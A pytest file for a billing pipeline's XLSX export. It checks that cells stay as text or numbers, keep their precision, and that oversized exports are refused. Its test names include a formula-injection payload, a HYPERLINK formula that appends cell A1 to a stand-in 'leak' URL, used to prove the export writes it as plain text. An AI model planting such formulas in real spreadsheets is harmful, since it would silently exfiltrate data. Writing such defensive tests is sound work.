"""XLSX files: text stays text, numbers keep their digits, and what does not fit is refused."""

from __future__ import annotations

import zipfile
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from billing_pipeline.errors import OutputError
from billing_pipeline.warehouse import Warehouse, spreadsheet
from billing_pipeline.warehouse.exporting import export_period
from billing_pipeline_tests.warehouse.reports import SEPTEMBER, load_unchecked, row, storage

pytestmark = pytest.mark.duckdb

NAMES = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Rechnung")',
    "@home Services",
    "+49 (0)89 1234",
    "00149",
    "1E5",
    "TRUE",
    "2026-09-01",
    "https://example.invalid/",
    "Bäckerei Müller & Söhne <Köln>",
    " blanks at both ends ",
    "two\nlines",
    "bell \x07 and _x0041_",
    "東京 \U0001f9fe",
]


def cells(path: Path) -> list[dict[str, Any]]:
    """Cells of each row, by the name of the column."""
    (sheet,) = openpyxl.load_workbook(path).worksheets
    header, *rows = sheet.iter_rows()
    names = [str(cell.value) for cell in header]
    return [dict(zip(names, found, strict=True)) for found in rows]


@pytest.fixture
def exported(warehouse: Warehouse, tmp_path: Path) -> Path:
    rows = [
        row(tenant_id=f"30000000-0000-4000-8000-0000000002{n:02d}", tenant_name=name, customer_id="00149")
        for n, name in enumerate(NAMES)
    ]
    rows.append(storage(delta_production=-(10**21), tenant_name=None, quota="18.5", absolute_trial=10**14))
    load_unchecked(warehouse, rows)
    path = tmp_path / "usage.xlsx"
    assert export_period(warehouse, SEPTEMBER, "usage", "xlsx", path) == len(rows)
    return path


def test_export_xlsx__texts__stay_texts(exported: Path) -> None:
    found = cells(exported)

    assert [unescape(each["tenant_name"].value) for each in found[:-1]] == NAMES
    for each in found[:-1]:
        # s and inlineStr: a text; f would be a formula, n a number.
        assert each["tenant_name"].data_type == each["customer_id"].data_type == "s"
        assert each["tenant_name"].hyperlink is None
        assert each["customer_id"].value == "00149"
    assert found[-1]["tenant_name"].value is None
    assert "<f>" not in zipfile.ZipFile(exported).read("xl/worksheets/sheet1.xml").decode()


def test_export_xlsx__numbers__keep_all_digits(exported: Path) -> None:
    *_, last = cells(exported)

    assert (last["delta_production"].data_type, last["delta_production"].value) == ("n", -1e21)
    assert (last["quota"].data_type, last["quota"].value) == ("n", 18.5)
    assert (last["absolute_trial"].data_type, last["absolute_trial"].value) == ("n", 10**14)
    assert last["is_range"].value is False
    assert last["billing_period"].value == datetime(2026, 9, 1)  # noqa: DTZ001
    assert last["billing_period"].number_format == "yyyy-mm-dd"


@pytest.mark.parametrize(
    ("quantity", "cell"),
    [
        ("12345678901.2345678901", ("s", "12345678901.2345678901")),
        ("9.9500000000", ("n", 9.95)),
        ("-0.0000000001", ("n", -1e-10)),
        ("0", ("n", 0)),
    ],
)
def test_write_xlsx__number__is_text_if_it_would_be_rounded(
    warehouse: Warehouse, tmp_path: Path, quantity: str, cell: tuple[str, Any]
) -> None:
    load_unchecked(warehouse, [row()])
    path = tmp_path / "numbers.xlsx"
    with warehouse.reading() as connection:
        cursor = connection.execute(f"SELECT {quantity}::DECIMAL(38, 10) AS quantity")
        spreadsheet.write_xlsx(cursor, path, sheet="x", dated=SEPTEMBER.start)

    ((found,),) = (each.values() for each in cells(path))

    assert (found.data_type, found.value) == cell
    assert found.data_type == "n" or Decimal(found.value) == Decimal(quantity)


def test_export_xlsx__more_rows_than_a_sheet__is_refused(
    warehouse: Warehouse, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(spreadsheet, "MAX_ROWS", 2)
    load_unchecked(warehouse, [row(offering_item=item) for item in ("servers", "vms", "workstations")])

    with pytest.raises(OutputError, match="room for 2 rows at most"):
        export_period(warehouse, SEPTEMBER, "usage", "xlsx", tmp_path / "usage.xlsx")

    assert [path.name for path in tmp_path.iterdir()] == ["data"]


def test_export_xlsx__larger_than_an_archive__is_refused(
    warehouse: Warehouse, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("zipfile.ZIP64_LIMIT", 4_000)
    load_unchecked(warehouse, [row()])

    with pytest.raises(OutputError, match="room for 2 GiB of XML at most"):
        export_period(warehouse, SEPTEMBER, "usage", "xlsx", tmp_path / "usage.xlsx")

    assert [path.name for path in tmp_path.iterdir()] == ["data"]


@pytest.mark.parametrize("text", ["x" * 32_767, "\U0001f9fe" * 16_383])
def test_export_xlsx__text_fills_a_cell__one_more_is_refused(
    warehouse: Warehouse, tmp_path: Path, text: str
) -> None:
    path = tmp_path / "usage.xlsx"
    load_unchecked(warehouse, [row(tenant_name=text)])
    export_period(warehouse, SEPTEMBER, "usage", "xlsx", path)
    assert cells(path)[0]["tenant_name"].value == text

    load_unchecked(warehouse, [row(tenant_name=text + text[0])], number=2)
    with pytest.raises(OutputError, match="room for 32,767 characters at most"):
        export_period(warehouse, SEPTEMBER, "usage", "xlsx", path)
    assert cells(path)[0]["tenant_name"].value == text
